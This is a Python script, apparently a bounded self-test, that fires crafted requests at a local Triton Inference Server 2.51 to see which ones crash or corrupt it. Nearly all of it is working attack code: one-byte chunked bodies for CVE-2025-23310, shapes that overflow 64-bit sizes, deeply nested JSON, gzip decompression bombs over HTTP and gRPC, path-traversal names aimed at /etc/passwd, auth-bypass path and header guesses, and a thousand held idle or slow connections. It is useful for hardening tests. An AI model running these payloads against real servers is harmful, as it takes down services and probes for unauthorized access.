"""What a neighbour on the machine can send to a server: each is one request, or a few, that ended or corrupted Triton 2.51.

A script for another user, which reads lines ``NAME PORT``. It prints what came back, at most a line for each request, and then a line
``done``. Every attack is bounded in bytes, in connections and in time.
"""

from __future__ import annotations

import itertools
import json
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator

# Seconds that an attack waits for an answer.
_PATIENCE_S = 120.0
_HOST = "127.0.0.1"
_ADD_SUB = "/v2/models/add_sub/infer"
_STRINGS = "/v2/models/strings/infer"
CONNECTIONS = 1000
# The CRC-32 of 900 MB of zeros.
ZEROS_CRC = 0x8DA6FCDF


def send(port: int, head: str, body: Iterator[bytes] | bytes = b"", patience_s: float = _PATIENCE_S) -> str:
    """Send raw bytes, as far as they are taken, and return the first line of the answer."""
    try:
        with socket.create_connection((_HOST, port), timeout=patience_s) as connection:
            try:
                connection.sendall(head.encode("latin-1"))
                for part in [body] if isinstance(body, bytes) else body:
                    connection.sendall(part)
            except (ConnectionError, TimeoutError) as error:
                # It may have answered before it had everything.
                print("cut:", type(error).__name__)
            return connection.recv(4096).split(b"\r\n", 1)[0].decode("latin-1") or "closed"
    except OSError as error:
        return type(error).__name__


def post(port: int, path: str, body: bytes, headers: str = "", method: str = "POST") -> str:
    """Send one HTTP request with a body."""
    return send(port, f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {len(body)}\r\n\r\n", body)


def _add_sub(shape: str, data: str) -> bytes:
    return f'{{"inputs":[{{"name":"INPUT0","datatype":"FP32","shape":[{shape}],"data":{data}}}]}}'.encode()


def _whole_add_sub() -> bytes:
    inputs = [{"name": name, "datatype": "FP32", "shape": [16], "data": [1.0] * 16} for name in ("INPUT0", "INPUT1")]
    return json.dumps({"inputs": inputs}).encode()


def chunks(http: int, path: str = _ADD_SUB, number: int = 800_000) -> str:
    """CVE-2025-23310: a body in chunks of one byte each."""
    part = b"1\r\na\r\n" * 1000
    body = itertools.chain((part for _ in range(number // 1000)), [b"0\r\n\r\n"])
    return send(http, f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", body)


def chunks_where_no_secret_is_needed(http: int) -> list[str]:
    """The same to paths that answer everybody, and to those of the owner."""
    paths = ("/v2", "/v2/health/ready", "/v2/models/add_sub", "/v2/models/add_sub/config", "/v2/models/add_sub/stats")
    owners = ("/v2/repository/index", "/v2/logging", "/v2/trace/setting", "/v2/systemsharedmemory/region/x/register")
    return [f"{path} {chunks(http, path)}" for path in (*paths, *owners)]


def chunks_to_a_path_of_each_kind(http: int) -> list[str]:
    """The same to one path that answers everybody, and to one of the owner."""
    return [f"{path} {chunks(http, path)}" for path in ("/v2/models/add_sub/config", "/v2/repository/index")]


def chunks_where_metrics_are(metrics: int) -> list[str]:
    """The same to the metrics' port, which knows one path."""
    return [f"{path} {chunks(metrics, path)}" for path in ("/metrics", "/v2")]


def overflow(http: int) -> str:
    """A shape whose size in bytes is more than 64 bits hold."""
    return post(http, _ADD_SUB, _add_sub(str(2**63 - 1), "[1.0]"))


def overrun(http: int) -> str:
    """A shape whose size in bytes comes out as 16, and a long list."""
    return post(http, _ADD_SUB, _add_sub(str(2**62 + 4), json.dumps([1.0] * 100_000)))


def nested(http: int) -> str:
    """Lists in lists, 40,000 deep."""
    return post(http, _ADD_SUB, _add_sub("1", "[" * 40_000 + "]" * 40_000))


def memory(http: int) -> str:
    """A shape of 8 GB with one number."""
    return post(http, _ADD_SUB, _add_sub(str(2**31), "[1.0]"))


def bomb(http: int, path: str = _ADD_SUB) -> str:
    """0.9 MB that unpack to 900 MB."""
    packer = zlib.compressobj(9, wbits=-15)
    # A part that stands for itself, again and again; then an empty last part, the checksum of so many zeros, and their number.
    part = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    body = b"\x1f\x8b\x08" + bytes(7) + 900 * part + b"\x03\x00" + struct.pack("<II", ZEROS_CRC, 900_000_000)
    return post(http, path, body, "Content-Encoding: gzip\r\n")


def dimension(http: int) -> str:
    """A dimension of 2^62 without data, over HTTP."""
    head = json.dumps({"inputs": [{"name": "TEXT", "datatype": "BYTES", "shape": [2**62], "parameters": {"binary_data_size": 0}}]}).encode()
    return post(http, _STRINGS, head, f"Inference-Header-Content-Length: {len(head)}\r\n")


def classes(http: int) -> str:
    """The best class of an output of strings."""
    inputs = [{"name": "TEXT", "datatype": "BYTES", "shape": [1], "data": ["a"]}]
    return post(http, _STRINGS, json.dumps({"inputs": inputs, "outputs": [_class("ECHO")]}).encode())


def no_classes(http: int) -> str:
    """The best class of an empty output."""
    inputs = [{"name": "TEXT", "datatype": "BYTES", "shape": [0], "data": []}]
    return post(http, _STRINGS, json.dumps({"inputs": inputs, "outputs": [_class("LENGTH")]}).encode())


def _class(output: str) -> dict[str, object]:
    return {"name": output, "parameters": {"classification": 1}}


def climbing(http: int) -> list[str]:
    """Names that lead out of the repository, encoded in every usual way."""
    names = ("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..\\..\\etc\\passwd", "add_sub/../../../etc/passwd")
    ends = ("", "/config", "/ready", "/versions/../config")
    paths = [f"/v2/models/{name}{end}" for name in names for end in ends]
    return [f"{path} {send(http, f'GET {path} HTTP/1.1{chr(13)}{chr(10)}Host: x{chr(13)}{chr(10)}{chr(13)}{chr(10)}')}" for path in paths]


def detours(http: int) -> list[str]:
    """Other ways to write the paths of inference and of administration."""
    infer = "/v2/models/add_sub"
    paths = [
        f"{infer}{end}" for end in ("/versions/1/infer", "/generate", "/generate_stream", "/infer/", "/infer?x=1", "//infer", "/%69nfer")
    ]
    paths += [f"/{infer}/infer", f"/v2/{infer}/infer", f"/v2/.{infer[3:]}/infer", f"{infer}/x/../infer", "/invocations", "/predict"]
    paths += [f"/v2/repository/{end}" for end in ("index", "./index", "index/", "models/add_sub/unload", "x/models/add_sub/unload")]
    paths += ["//v2/repository/index", "/v2/logging", "/v2/trace/setting", f"{infer}/trace/setting", "/v2/systemsharedmemory/status"]
    body = _whole_add_sub()
    return [f"{method} {path} {post(http, path, body, method=method)}" for path in paths for method in ("POST", "GET", "PUT")]


def guesses(http: int) -> list[str]:
    """Wrong secrets, and the right name in wrong places."""
    body = _whole_add_sub()
    names = ("authorization", "Authorization", "triton-grpc-protocol-authorization", "course-admin-key", "x-authorization", "cookie")
    values = ("", "Bearer", "Bearer ", "Bearer guess", "Bearer $COURSE_TOKEN", "Bearer *", "Basic eDp5", "$COURSE_TOKEN")
    return [f"{name}:{value} {post(http, _ADD_SUB, body, f'{name}: {value}{chr(13)}{chr(10)}')}" for name in names for value in values]


def idle(port: int, seconds: float = 8.0) -> str:
    """Connections that say nothing."""
    return _hold(port, b"", seconds)


def slow(port: int, seconds: float = 8.0) -> str:
    """Connections that send a byte of a header now and then."""
    return _hold(port, b"GET /v2 HTTP/1.1\r\nHost:", seconds)


def _hold(port: int, begin: bytes, seconds: float) -> str:
    held: list[socket.socket] = []
    end = time.monotonic() + seconds
    for _ in range(CONNECTIONS):
        connection = socket.socket()
        held.append(connection)
        connection.setblocking(False)
        connection.connect_ex((_HOST, port))
    while begin and time.monotonic() < end:
        for connection in held:
            try:
                connection.send(begin)
            except OSError:  # not connected, or thrown out
                continue
        begin = b"x"
        time.sleep(0.5)
    print("held", flush=True)
    time.sleep(max(0.0, end - time.monotonic()))
    return f"{len(held)} connections"


def grpc_call(port: int, fill: Callable[..., object], packed: bool = False, answers: type | None = None) -> str:
    """Send one inference request over gRPC that ``fill`` completes, in a stream where there is a type of answers."""
    import grpc
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name="strings")
    fill(request)
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(f"{_HOST}:{port}", options) as channel:
        service, encode = "/inference.GRPCInferenceService", service_pb2.ModelInferRequest.SerializeToString
        call = channel.unary_unary(f"{service}/ModelInfer", encode, lambda answer: answer)
        try:
            if answers is not None:
                stream = channel.stream_stream(f"{service}/ModelStreamInfer", encode, answers.FromString)
                return f"answered {list(stream(iter([request]), timeout=_PATIENCE_S))}"
            call(request, timeout=_PATIENCE_S, compression=grpc.Compression.Gzip if packed else None)
        except grpc.RpcError as error:
            return f"{error.code().name} {error.details()[:120]}"
    return "OK"


def grpc_dimension(grpc: int) -> str:
    """A dimension of 2^62 without data, over gRPC."""

    def fill(request: object) -> None:
        tensor = request.inputs.add(name="TEXT", datatype="BYTES", shape=[2**62])
        tensor.contents.bytes_contents.extend([])
        request.raw_input_contents.append(b"")

    return grpc_call(grpc, fill)


def grpc_classes(grpc: int) -> str:
    """The best class of an output of strings, over gRPC."""

    def fill(request: object) -> None:
        request.inputs.add(name="TEXT", datatype="BYTES", shape=[1]).contents.bytes_contents.append(b"a")
        request.outputs.add(name="ECHO").parameters["classification"].int64_param = 1

    return grpc_call(grpc, fill)


def grpc_bomb(grpc: int) -> str:
    """0.3 MB that unpack to 300 MB, over gRPC."""
    return grpc_call(grpc, lambda request: request.raw_input_contents.append(bytes(300_000_000)), packed=True)


def grpc_stream(grpc: int) -> str:
    """A good request in a stream, without the secret."""
    from tritonclient.grpc import service_pb2

    def fill(request: object) -> None:
        request.inputs.add(name="TEXT", datatype="BYTES", shape=[1]).contents.bytes_contents.append(b"a")

    return grpc_call(grpc, fill, answers=service_pb2.ModelStreamInferResponse)


def candidates(http: int, number: int = 10_000) -> str:
    """A jet with more candidates than any has."""
    head: dict[str, list[dict[str, object]]] = {"inputs": []}
    body = b""
    for name, rows, length in (
        ("pf_points", 2, number),
        ("pf_features", 20, number),
        ("pf_mask", 1, number),
        ("sv_points", 2, 5),
        ("sv_features", 11, 5),
        ("sv_mask", 1, 5),
    ):
        data = bytes(4 * rows * length)
        shape = [1, rows, length]
        head["inputs"].append({"name": name, "datatype": "FP32", "shape": shape, "parameters": {"binary_data_size": len(data)}})
        body += data
    text = json.dumps(head).encode()
    return post(http, "/v2/models/particlenet_AK4/infer", text + body, f"Inference-Header-Content-Length: {len(text)}\r\n")


OVER_GRPC = (grpc_dimension, grpc_classes, grpc_stream, grpc_bomb)
OVER_HTTP = (overflow, overrun, nested, memory, bomb, dimension, classes, no_classes, candidates, chunks)
ON_MANY_PATHS = (
    *(chunks_where_no_secret_is_needed, chunks_to_a_path_of_each_kind, chunks_where_metrics_are),
    *(climbing, detours, guesses),
)
HELD = (idle, slow)

if __name__ == "__main__":
    known = {attack.__name__: attack for attack in (*OVER_HTTP, *OVER_GRPC, *ON_MANY_PATHS, *HELD)}
    for line in sys.stdin:
        name, port = line.split()
        came = known[name](int(port))
        print("\n".join([came] if isinstance(came, str) else came), "done", sep="\n", flush=True)
